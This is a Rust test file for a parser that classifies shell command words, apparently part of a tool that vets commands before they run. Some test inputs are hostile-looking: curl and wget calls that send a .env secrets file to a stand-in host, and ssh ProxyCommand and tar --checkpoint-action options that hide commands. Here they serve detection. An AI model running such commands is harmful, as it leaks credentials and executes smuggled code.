//! Each line is a command, then what its words are.

use super::*;

/// Words at blanks, but for what stands in single quotes.
fn split(line: &str) -> Vec<String> {
    let mut words = vec![];
    let (mut in_word, mut quoted) = (false, false);
    for letter in line.chars() {
        if letter == ' ' && !quoted {
            in_word = false;
            continue;
        }
        if !in_word {
            words.push(String::new());
            in_word = true;
        }
        if letter == '\'' {
            quoted = !quoted;
        } else {
            words.last_mut().expect("pushed above").push(letter);
        }
    }
    assert!(!quoted, "quotes come in pairs: {line}");
    words
}

fn shown(line: &str) -> String {
    let words = split(line);
    let argv: Vec<&str> = words.iter().map(String::as_str).collect();
    let show = |one: Use| {
        let role = format!("{:?}", one.role)
            .replace("Code(", "")
            .replace("RunFile(", "Run")
            .replace("Words(", "Words ");
        format!("{} {}", role.trim_end_matches(')'), &argv[one.word][one.span.range()])
    };
    read(&argv).uses.into_iter().map(show).collect::<Vec<_>>().join(", ")
}

/// Checks all lines of `table`, and shows all that differ at once.
#[track_caller]
fn check(table: &[(&str, &str)]) {
    let wrong: Vec<String> = table
        .iter()
        .filter(|(line, expected)| shown(line) != *expected)
        .map(|(line, expected)| format!("{line}\n  is    {}\n  wants {expected}", shown(line)))
        .collect();
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
}

#[test]
fn options_with_values_hide_no_command() {
    check(&[
        ("sudo npm i", "Command npm"),
        ("sudo -u root npm i", "Skip root, Command npm"),
        ("sudo -uroot npm i", "Skip root, Command npm"),
        ("sudo --user=root npm i", "Skip root, Command npm"),
        ("sudo --us root npm i", "Skip root, Command npm"),
        ("sudo --us=root npm i", "Skip root, Command npm"),
        ("sudo -En -- npm i", "Command npm"),
        ("sudo -nu root npm i", "Skip root, Command npm"),
        ("sudo -Snuroot npm i", "Skip root, Command npm"),
        ("sudo A=1 npm i", "Env A=1, Command npm"),
        ("sudo A=1 -u root npm i", "Env A=1, Skip root, Command npm"),
        ("sudo -g staff -u bob npm i", "Skip staff, Skip bob, Command npm"),
        ("sudo -D src npm i", "Dir src, Command npm"),
        ("sudo -s npm i", "Command npm"),
        ("sudo -e .env b", "Both .env, Both b"),
        ("sudo", ""),
        ("sudo -u", ""),
        ("doas -u root -n npm i", "Skip root, Command npm"),
        ("pkexec --user bob npm i", "Skip bob, Command npm"),
        ("chroot --userspec=0:0 / npm i", "Skip 0:0, Dir /, Command npm"),
        ("nsenter -t 1 -m npm i", "Skip 1, Command npm"),
        ("nsenter --target 1 --all -- npm i", "Skip 1, Command npm"),
        ("unshare -r npm i", "Command npm"),
        ("setpriv --reuid=1 --clear-groups npm i", "Skip 1, Command npm"),
        ("systemd-run -p Nice=5 --pipe npm i", "Skip Nice=5, Command npm"),
        ("systemd-run --user --scope npm i", "Command npm"),
        ("caffeinate -t 5 npm i", "Skip 5, Command npm"),
        ("bwrap --ro-bind / / --bind a b npm i", "Read /, Read /, Both a, Both b, Command npm"),
    ]);
}

#[test]
fn an_option_that_runs_nothing() {
    check(&[
        ("sudo -l npm i", "Query -l"),
        ("sudo -nl npm i", "Query -nl"),
        ("command -v npm", "Query -v"),
        ("command -pV npm", "Query -pV"),
        ("timeout --help npm i", "Query --help"),
        ("ionice -p 12", "Query -p"),
        ("bash -n -c 'npm i'", "Query -n"),
        ("bash -nc 'npm i'", "Query -nc"),
        ("xargs --version", "Query --version"),
        ("unknown --help npm", "Plain npm"),
    ]);
}

#[test]
fn su_and_its_shell() {
    check(&[
        ("su -c 'npm i'", "Script npm i"),
        ("su - root -c 'npm i'", "Skip root, Script npm i"),
        ("su --command='npm i' root", "Script npm i, Skip root"),
        ("su -lc 'npm i'", "Script npm i"),
        ("su root -- -c 'npm i'", "Skip root, ShellArgs -c"),
        ("su root x.sh", "Skip root, ShellArgs x.sh"),
        ("runuser -u root -- npm i", "Skip root, Command npm"),
        ("runuser root -c 'npm i'", "Skip root, Script npm i"),
    ]);
}

#[test]
fn wrappers_that_run_a_command() {
    check(&[
        ("timeout -s KILL 30 npm ci", "Skip KILL, Skip 30, Command npm"),
        ("timeout -k5 30 npm ci", "Skip 5, Skip 30, Command npm"),
        ("timeout --signal=KILL --kill-after 5 30 npm", "Skip KILL, Skip 5, Skip 30, Command npm"),
        ("timeout --preserve-status 30 npm -s x", "Skip 30, Command npm"),
        ("nice -n5 npm i", "Skip 5, Command npm"),
        ("nice -n -5 npm i", "Skip -5, Command npm"),
        ("nice -5 npm i", "Command npm"),
        ("nice --adjustment=5 npm i", "Skip 5, Command npm"),
        ("stdbuf -oL npm i", "Skip L, Command npm"),
        ("ionice -c 3 npm i", "Skip 3, Command npm"),
        ("chrt -o 0 npm i", "Skip 0, Command npm"),
        ("taskset -c 0 npm i", "Skip 0, Command npm"),
        ("prlimit --nofile=128 npm i", "Skip 128, Command npm"),
        ("setsid -w npm i", "Command npm"),
        ("nohup npm i", "Command npm"),
        ("exec -a foo npm i", "Skip foo, Command npm"),
        ("exec -cla foo npm i", "Skip foo, Command npm"),
        ("command -p npm i", "Command npm"),
        ("command -- npm i", "Command npm"),
        ("builtin command npm i", "Command command"),
        ("time -f %e npm i", "Free %e, Command npm"),
        ("time -o o -v npm i", "Write o, Command npm"),
        ("flock f npm i", "Both f, Command npm"),
        ("flock f -c 'npm i'", "Both f, Script npm i"),
        ("flock -w 5 f npm i", "Skip 5, Both f, Command npm"),
        ("strace -f -e trace=none -o o npm i", "Skip trace=none, Write o, Command npm"),
        ("watch -n 1 'npm i'", "Skip 1, ScriptWords npm i"),
        ("watch -x npm i", "Command npm"),
        ("hyperfine -w 3 -p 'npm ci' 'npm i' 'npm t'", "Skip 3, Script npm ci, Script npm i, Script npm t"),
        ("busybox nice npm i", "Command nice"),
        ("entr -z npm i", "Command npm"),
        ("entr -s 'npm i'", "ScriptWords npm i"),
        ("script -qc 'npm i' /dev/null", "Script npm i, Write /dev/null"),
        ("script -q /dev/null npm i", "Write /dev/null, Command npm"),
        ("xvfb-run -a -s '-screen 0' npm i", "Free -screen 0, Command npm"),
        ("faketime -f '@2020' npm i", "Free @2020, Command npm"),
        ("numactl -N 0 npm i", "Skip 0, Command npm"),
    ]);
}

#[test]
fn env_sets_moves_and_splits() {
    check(&[
        ("env -i -u X -C src A=1 npm i", "Skip X, Dir src, Env A=1, Command npm"),
        ("env - A=1 npm i", "Env A=1, Command npm"),
        ("env --chdir=src npm", "Dir src, Command npm"),
        ("env -S 'npm i'", "Split npm i"),
        ("env -S'npm i'", "Split npm i"),
        ("env --split-string='npm i' x", "Split npm i"),
        ("env -vS 'npm i' x", "Split npm i"),
        ("env -vS'npm i' x", "Split npm i"),
    ]);
}

#[test]
fn feeders() {
    check(&[
        ("xargs -n1 -P 4 npm", "Skip 1, Skip 4, Command npm"),
        ("xargs -I{} npm {}", "Replace {}, Command npm"),
        ("xargs -I % npm %", "Replace %, Command npm"),
        ("xargs -i npm {}", "Command npm"),
        ("xargs --replace=R npm R", "Replace R, Command npm"),
        ("xargs -0r npm i", "Command npm"),
        ("xargs -a list.txt npm", "Read list.txt, Command npm"),
        ("xargs --max-args 1 --no-run-if-empty npm", "Skip 1, Command npm"),
        ("xargs", ""),
        ("fd -t f package.json -x npm ci", "Skip f, Pattern package.json, Command npm"),
        ("fd x -X a b ; -x c", "Pattern x, Command a, Command c"),
        ("mapfile -t -C 'npm i' -c 1 A", "Script npm i, Skip 1, Skip A"),
    ]);
}

#[test]
fn shells_and_positional_arguments() {
    check(&[
        ("bash -c 'npm i' a b", "Script npm i, Positional a, Positional b"),
        ("bash -lc 'npm i'", "Script npm i"),
        ("sh -euxc 'npm i'", "Script npm i"),
        ("bash -c -- 'npm i'", "Script npm i"),
        ("bash -o pipefail -c 'npm i'", "Skip pipefail, Script npm i"),
        ("bash -euo pipefail -c 'npm i'", "Skip pipefail, Script npm i"),
        ("bash -oe pipefail -c 'npm i'", "Skip pipefail, Script npm i"),
        ("bash -ceuo pipefail 'npm i'", "Skip pipefail, Script npm i"),
        ("bash +x -O extglob -c 'npm i'", "Skip extglob, Script npm i"),
        ("bash --norc -norc -c 'npm i'", "Script npm i"),
        ("bash --rcfile rc -i -c :", "RunShell rc, Script :"),
        ("bash x.sh .env", "RunShell x.sh, Positional .env"),
        ("bash x.sh -c y", "RunShell x.sh, Positional -c, Positional y"),
        ("bash -s a b", "Positional a, Positional b"),
        ("sh -- /dev/stdin", "RunShell /dev/stdin"),
        ("bash -", "RunShell -"),
        ("fish -c 'npm i' a", "Script npm i, Positional a"),
        ("cmd /c npm i", "CodeWords Cmd npm"),
        ("pwsh -NoProfile -Command npm i", "CodeWords PowerShell npm"),
    ]);
}

#[test]
fn code_of_interpreters() {
    check(&[
        ("python3 -c 'import os' -x .env", "Python import os, Plain -x, Plain .env"),
        ("python3.12 -Iuc 'import os'", "Python import os"),
        ("python3 -m venv .env", "Module venv, Plain .env"),
        ("python3 -m json.tool a b", "Module json.tool, Read a, Write b"),
        ("python3 -Im twine upload --skip-existing dist/x", "Module twine, Read upload, Read dist/x"),
        ("python3 -mcoverage run -m pytest", "Module coverage, Skip pytest"),
        ("python x.py .env", "RunPython x.py, Plain .env"),
        ("node -e 'f()' a", "JavaScript f(), Plain a"),
        ("node --env-file=.env x.js", "Read .env, RunJavaScript x.js"),
        ("node -pe 1", "JavaScript 1"),
        ("perl -pi -e s/a/b/ f", "Perl s/a/b/, Both f"),
        ("perl -i.bak -ne 1 f", "Skip .bak, Perl 1, Both f"),
        ("perl -lne print f", "Perl print, Read f"),
        ("perl x.pl .env", "RunPerl x.pl, Plain .env"),
        ("ruby -e 1 f", "Ruby 1, Read f"),
        ("ruby -v -e 1", "Ruby 1"),
        ("perl -ce 1", "DryRun , Perl 1"),
        ("php -r 'f();'", "Php f();"),
        ("lua -e 'f()' x.lua", "Lua f(), RunLua x.lua"),
        ("awk -F: '{print}' f", "Free :, Awk {print}, Read f"),
        ("awk -f p.awk f", "RunAwk p.awk, Read f"),
        ("gawk -i inplace '{print}' .env", "Skip inplace, Awk {print}, Both .env"),
        ("sed -i 's/a/b/' f", "Sed s/a/b/, Both f"),
        ("sed -i.bak s/a/b/ f", "Skip .bak, Sed s/a/b/, Both f"),
        ("sed -i '' -e s/a/b/ f", "Sed s/a/b/, Both f"),
        ("sed -Ei.bak s/a/b/ .env", "Skip .bak, Sed s/a/b/, Both .env"),
        ("sed -n -e p -f x f", "Sed p, Read x, Read f"),
        ("sed -n 1,5p .env", "Sed 1,5p, Read .env"),
        ("sed f -e p", "Read f, Sed p"),
        ("jq --arg a b .x f", "Free a, Free b, Jq .x, Read f"),
        ("vim -es -c '!npm i' -c qa .env", "Vim !npm i, Vim qa, Both .env"),
        ("vim +5 .env", "Vim 5, Both .env"),
        ("make -C app --eval=x t", "Dir app, Make x, Name t"),
    ]);
}

#[test]
fn runners() {
    check(&[
        ("npx -y -p pkg -c 'npm i'", "Skip pkg, Script npm i"),
        ("npx -y npm@9 ci", "Package npm@9"),
        ("npm exec -- npm i", "Package npm"),
        ("npm --prefix app x -- npm i", "Skip app, Package npm"),
        ("npm install .env x file:y", "Read .env, Skip x, Read y"),
        ("npm ci", ""),
        ("pnpm exec npm i", "Command npm"),
        ("pnpm -C app exec npm i", "Dir app, Command npm"),
        ("pnpm dlx npm i", "Package npm"),
        ("yarn exec npm i", "Command npm"),
        ("bunx npm ci", "Package npm"),
        ("bun x npm ci", "Package npm"),
        ("uv run --with x npm i", "Skip x, Command npm"),
        ("uv --directory app run npm", "Dir app, Command npm"),
        ("uvx --from a b", "Skip a, Package b"),
        ("uv tool run b", "Package b"),
        ("poetry run npm i", "Command npm"),
        ("conda run -n e npm i", "Skip e, Command npm"),
        ("bundle exec npm i", "Command npm"),
        ("corepack npm i", "Package npm"),
        ("corepack enable npm", "Skip npm"),
        ("rtk proxy grep -rn a b", "Command grep"),
        ("mise exec node@22 -- npm ci", "Skip node@22, Command npm"),
        ("mise x -c 'npm i'", "Script npm i"),
        ("direnv exec . npm i", "Name ., Command npm"),
        ("nix develop .#ci -c npm ci", "Skip .#ci, Command npm"),
        ("nix-shell -p a --run 'npm i'", "Skip a, Script npm i"),
        ("dotenvx run -f .env -- npm i", "Read .env, Command npm"),
        ("doppler run --command 'npm i'", "Script npm i"),
        ("op run --env-file=.env -- npm i", "Read .env, Command npm"),
        ("aws-vault exec dev -- npm i", "Skip dev, Command npm"),
        ("cross-env A=1 npm i", "Env A=1, Command npm"),
        ("cmake -E env A=1 npm i", "Env A=1, Command npm"),
        ("go run -exec 'npm i' x.go y", "Script npm i, Read x.go, Plain y"),
    ]);
}

#[test]
fn elsewhere() {
    check(&[
        ("docker run --rm -v a:/w img npm i", "Both a, Skip img, Command npm"),
        ("docker run -itv a:/w --env-file .env img", "Both a, Read .env, Skip img"),
        ("docker run --entrypoint npm img ci", "Entrypoint npm, Skip img, Command ci"),
        ("docker run --mount type=bind,source=.env,target=/x i", "Both .env, Skip i"),
        ("docker -H x exec -it c sh -c x", "Skip x, Skip c, Command sh"),
        ("docker compose exec -T web npm i", "Skip web, Command npm"),
        ("docker compose --env-file .env up", "Read .env, Skip up"),
        ("docker-compose -f x run web npm", "Read x, Skip web, Command npm"),
        ("docker cp .env c:/x", "Read .env, Skip c:/x"),
        ("podman run -e A=1 img npm", "Env A=1, Skip img, Command npm"),
        ("kubectl exec pod -- npm i", "Skip pod, Command npm"),
        ("kubectl -n a exec -it deploy/x -c y -- npm", "Skip a, Skip deploy/x, Skip y, Command npm"),
        (
            "kubectl create secret generic x --from-file=a=.env",
            "Skip create, Skip secret, Skip generic, Skip x, Read .env",
        ),
        ("ssh -o A=b -p 22 u@host -- npm i", "Skip A=b, Skip 22, Skip u@host, ScriptWords npm"),
        ("ssh host -p 22 bash -c 'npm i'", "Skip host, Skip 22, ScriptWords bash"),
        ("ssh -tt -i key host npm i", "Read key, Skip host, ScriptWords npm"),
        ("ssh -o ProxyCommand='npm i' host", "Script npm i, Skip host"),
        ("ssh -oproxycommand='npm i' host", "Script npm i, Skip host"),
        ("nvm exec npm i", "Command npm"),
        ("nvm exec v20.1 npm i", "Command npm"),
        ("nvm exec --silent lts/iron npm i", "Command npm"),
        ("retry -t 3 -- npm i", "Skip 3, Command npm"),
        ("bun exec 'npm i'", "Script npm i"),
        ("at -f x.sh now", "RunShell x.sh, Skip now"),
        ("psql -c '\\! npm i' db", "Sql \\! npm i, Skip db"),
        ("psql -c 'select 1' db", "Sql select 1, Skip db"),
        ("gdb -batch -ex 'shell npm i' x", "Script npm i, Plain x"),
        ("vagrant ssh -c 'npm i'", "Script npm i"),
        ("tmux new -d -s x 'npm i'", "Skip x, ScriptWords npm i"),
        ("tmux send-keys -t x 'npm i' Enter", "Skip x, Keys npm i"),
        ("screen -dmS x npm i", "Skip x, Command npm"),
        ("apptainer exec img.sif npm i", "Read img.sif, Command npm"),
    ]);
}

#[test]
fn git_and_messages() {
    check(&[
        ("git -C app commit -am msg", "Dir app, Free msg"),
        ("git commit -mmsg", "Free msg"),
        ("git commit -mn", "Free n"),
        ("git commit -uno -m x", "Skip no, Free x"),
        ("git commit --mess=x a", "Free x, Staged a"),
        ("git commit --author='Me <me@x.y>'", "Skip Me <me@x.y>"),
        ("git commit -F .env", "TextFile .env"),
        ("git -c alias.x=!npm x", "Setting alias.x=!npm, Skip x"),
        ("git --git-dir .git --no-pager add .", "Both .git, Staged ."),
        ("git log --grep=x -S y -- .env", "Free x, Free y, Read .env"),
        ("git log --oneline -- .env", "Name .env"),
        ("git rm --cached .env", "Name .env"),
        ("git show :0:.env", "Read .env"),
        ("git grep -n x src", "Pattern x, Read src"),
        ("git tag -a v1 -m x", "Skip v1, Free x"),
        ("git stash push -q -m x", "Free x"),
        ("git stash -m x", "Free x"),
        ("git rebase -x 'npm i' HEAD", "Script npm i, Skip HEAD"),
        ("git bisect run npm i", "Command npm"),
        ("git bisect start HEAD", "Skip start, Plain HEAD"),
        ("git submodule foreach --recursive 'npm i'", "ScriptWords npm i"),
        ("git filter-branch -f --msg-filter 'npm i' HEAD", "Script npm i, Skip HEAD"),
        ("git show HEAD:.env", "Read .env"),
        ("git mv a b", "Remove a, Write b"),
        ("git rm -q .env", "Remove .env"),
        ("git clone -c a=b url dir", "Setting a=b, Read url, Write dir"),
        ("gh pr create --title x --body y -d", "Free x, Free y"),
        ("gh issue comment 1 --body x", "Skip 1, Free x"),
        ("gh pr merge 1 -s -t x", "Skip 1, Free x"),
        ("gh api -X POST -f a=b -F c=@.env x", "Skip POST, Free a=b, Read .env, Skip x"),
        ("hg commit -m x", "Skip commit, Free x"),
    ]);
}

#[test]
fn patterns_and_text() {
    check(&[
        ("echo -n npm i", "Free -n, Free npm, Free i"),
        ("printf -- %s a", "Free %s, Free a"),
        ("grep -e a -e b file", "Pattern a, Pattern b, Read file"),
        ("grep file -e a", "Read file, Pattern a"),
        ("grep -rn pat src", "Pattern pat, Read src"),
        ("grep -rn -- --no-verify .github", "Pattern --no-verify, Read .github"),
        ("grep -qxF .env .gitignore", "Pattern .env, Read .gitignore"),
        ("grep '' .env", "Pattern , Read .env"),
        ("grep -A 3 -f pats file", "Skip 3, Read pats, Read file"),
        ("rg -g *.ts pat dir", "Only *.ts, Pattern pat, Read dir"),
        ("rg --files src", "Name src"),
        ("ag -g x src", "Pattern x, Name src"),
        ("read -p 'npm i?' x", "Free npm i?, Skip x"),
        ("sort -t npm -o .env f", "Skip npm, Write .env, Read f"),
        ("tr npm yyy", "Free npm, Free yyy"),
        ("pgrep -f 'npm i'", "Free npm i"),
        ("test -f .env", "Name -f, Name .env"),
        ("ls -la .env", "Name .env"),
        ("man -P 'npm i' ls", "Script npm i, Skip ls"),
    ]);
}

#[test]
fn files_read_and_written() {
    check(&[
        ("cp a b c", "Read a, Read b, Write c"),
        ("cp -t dir a b", "Write dir, Read a, Read b"),
        ("cp -tdir a", "Write dir, Read a"),
        ("cp --target-directory=dir a b", "Write dir, Read a, Read b"),
        ("mv a b", "Remove a, Write b"),
        ("ln -sf /dev/null .env", "Read /dev/null, Write .env"),
        ("install -m 600 x .env", "Skip 600, Read x, Write .env"),
        ("install -d a b", "Write a, Write b"),
        ("tee -a x y", "Write x, Write y"),
        ("cat -s .env", "Read .env"),
        ("head -5 .env", "Read .env"),
        ("tail -n5 .env", "Skip 5, Read .env"),
        ("xxd -ps .env", "Read .env"),
        ("tar -czf a.tgz .env", "Write a.tgz, Read .env"),
        ("tar czf a.tgz .env", "Write a.tgz, Read .env"),
        ("tar cfC a.tgz dir .env", "Write a.tgz, Dir dir, Read .env"),
        ("tar xf a.tgz .env", "Read a.tgz, Write .env"),
        ("tar --checkpoint-action=exec=npm -cf x y", "Script npm, Write x, Read y"),
        ("tar -I 'npm i' -cf o f", "Script npm i, Write o, Read f"),
        ("dd if=.env of=x bs=1", "Read .env, Write x, Skip bs=1"),
        ("truncate -s 0 .env", "Skip 0, Write .env"),
        ("chmod +x x.sh", "Skip +x, Write x.sh"),
        ("gzip -c .env", "Read .env"),
        ("gzip .env", "Both .env"),
        ("rsync -e 'npm i' h:x .", "Script npm i, Skip h:x, Write ."),
        ("scp -i key .env u@h:/x", "Read key, Read .env, Skip u@h:/x"),
        ("split --filter='npm i' f", "Script npm i, Read f"),
        ("prettier --write a", "Both a"),
        ("prettier a", "Read a"),
        ("source .env", "RunShell .env"),
        ("tsc --outDir=dist", "Write dist"),
        ("unknown --out=dist -x=y .env", "Plain dist, Plain y, Plain .env"),
    ]);
}

#[test]
fn what_goes_over_the_network() {
    check(&[
        ("curl -d @.env -o out https://x/.env", "Read .env, Write out, Skip https://x/.env"),
        ("curl -d 'npm i' http://x", "Free npm i, Skip http://x"),
        ("curl -H 'a: b' --data x h/.env", "Free a: b, Free x, Name h/.env"),
        ("curl -s -F file=@.env http://x", "Read .env, Skip http://x"),
        ("curl -sT .env http://x", "Read .env, Skip http://x"),
        ("curl file:///x/.env", "Read /x/.env"),
        ("curl --data-urlencode a@.env x", "Read .env, Name x"),
        ("wget -qO.env http://x", "Write .env, Skip http://x"),
        ("wget -nv --post-file=.env http://x", "Read .env, Skip http://x"),
    ]);
}

#[test]
fn the_row_and_where_it_begins() {
    let at = |argv: &[&str]| {
        let reading = read(argv);
        reading.row.map(|row| (row.name, reading.start))
    };
    assert_eq!(at(&["sudo", "-u", "root", "npm"]), Some(("sudo|sudo-rs", 1)));
    assert_eq!(at(&["git", "-C", "app", "commit", "-m"]), Some(("git commit", 4)));
    assert_eq!(at(&["git", "nosuch", "x"]), Some(("git", 1)));
    assert_eq!(at(&["op", "run", "x"]), Some(("op run", 2)));
    assert_eq!(at(&["unknown", "x"]), None);
    assert_eq!(at(&[]), None);
    let exec = ["docker", "compose", "-f", "x", "exec", "c", "sh"];
    let exec = read(&exec);
    assert!(exec.row.is_some_and(|row| row.remote) && exec.start == 5);
}

#[test]
fn wrappers_of_the_project() {
    assert_eq!(wrapped(&["with-env", "-f", ".env", "-q", "npm"], &["-f"]), Some(4));
    assert_eq!(wrapped(&["with-env", "--", "npm"], &[]), Some(2));
    assert_eq!(wrapped(&["with-env", "-f"], &["-f"]), None);
    assert_eq!(wrapped(&["with-env", "--"], &[]), None);
    assert_eq!(wrapped(&["with-env", "A=1", "B=", "npm", "C=2"], &[]), Some(3));
    assert_eq!(wrapped(&["with-env", "-q", "--", "A=1", "npm"], &[]), Some(4));
    assert_eq!(wrapped(&["with-env", "A=1"], &[]), None);
}

/// Whatever the words are, the answer has ranges inside them, and comes.
#[test]
fn any_words_will_do() {
    let words = [
        "", "-", "--", "-é", "--é=", "-u", "=", "--=", "+", "/c", "a:b", "file://", "@", "-C", "-i", "exec",
        "run", "compose", "commit", "-c", "-ü=ö", "x=@", "if=", "-e", "--help", ":::",
    ];
    let programs = [
        "", "sudo", "env", "bash", "tar", "sed", "git", "docker", "curl", "fd", "vim", "xargs", "dd",
        "kubectl", "socat", "unknown", "runuser", "npx", "cmd", "jq", "bwrap", "é3",
    ];
    let pairs = words.iter().flat_map(|a| words.iter().map(move |b| (a, b)));
    for ((a, b), program) in pairs.flat_map(|pair| programs.iter().map(move |p| (pair, p))) {
        for c in words {
            let argv = [program, a, b, c];
            let uses = read(&argv).uses;
            assert!(uses.is_sorted_by_key(|one| (one.word, one.span.start)), "{argv:?}");
            for one in uses {
                let text = argv.get(one.word).and_then(|word| word.get(one.span.range()));
                assert!(text.is_some(), "{argv:?}");
            }
        }
    }
}
